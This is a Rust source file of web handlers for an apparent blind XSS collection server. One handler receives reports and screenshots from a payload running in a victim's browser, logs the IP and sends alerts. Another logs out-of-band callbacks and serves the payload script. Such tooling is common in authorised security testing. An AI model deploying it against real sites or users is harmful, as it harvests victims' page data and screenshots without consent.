use actix_web::{web, HttpRequest, HttpResponse};
use bytes::Bytes;

use super::{content_type, ok, remote_ip};
use crate::error::{AppError, AppResult};
use crate::models::record::{REMOTE_IP_FIELD, SCREENSHOT_FIELD, SCREENSHOT_URL_FIELD};
use crate::models::{CallbackRecord, HeaderSet};
use crate::services::{format_callback, format_fields};
use crate::AppState;

/// POST /c
/// Blind XSS report sent by the payload once it runs in a victim's browser
pub async fn collect(
    state: web::Data<AppState>,
    req: HttpRequest,
    body: Bytes,
) -> AppResult<HttpResponse> {
    let mut record = CallbackRecord::from_body(content_type(&req), &body)?;
    record.set(SCREENSHOT_URL_FIELD, "");

    let screenshot = record
        .get(SCREENSHOT_FIELD)
        .filter(|s| !s.is_empty())
        .map(str::to_owned);

    if let Some(screenshot) = screenshot {
        if state.relay.is_configured() {
            let result = state.relay.upload_screenshot(&screenshot).await;
            record.set(SCREENSHOT_URL_FIELD, result.screenshot_url());
        }
    }

    record.set(REMOTE_IP_FIELD, remote_ip(&req));

    log::info!(
        "Blind XSS report from {} ({} fields)",
        record.get(REMOTE_IP_FIELD).unwrap_or_default(),
        record.len()
    );

    let alert = format_fields(&record);
    state.notifier.dispatch(&alert).await.into_result()?;

    Ok(ok())
}

/// ANY /
/// Out-of-band callback. Reports the request, then serves the payload script.
pub async fn callback(state: web::Data<AppState>, req: HttpRequest) -> AppResult<HttpResponse> {
    let headers = HeaderSet::from_header_map(req.headers());

    let mut record = CallbackRecord::new();
    record.set(REMOTE_IP_FIELD, remote_ip(&req));

    let request_uri = req
        .uri()
        .path_and_query()
        .map(|pq| pq.as_str())
        .unwrap_or("/");

    log::info!(
        "Out-of-band callback from {} for {}",
        record.get(REMOTE_IP_FIELD).unwrap_or_default(),
        request_uri
    );

    let alert = format_callback(&headers, &record, request_uri);
    state.notifier.dispatch(&alert).await.into_result()?;

    let path = &state.config.payload_path;
    let script = tokio::fs::read(path)
        .await
        .map_err(|e| AppError::Internal(format!("Failed to read payload {}: {}", path, e)))?;

    Ok(HttpResponse::Ok()
        .content_type("application/javascript; charset=utf-8")
        .body(script))
}
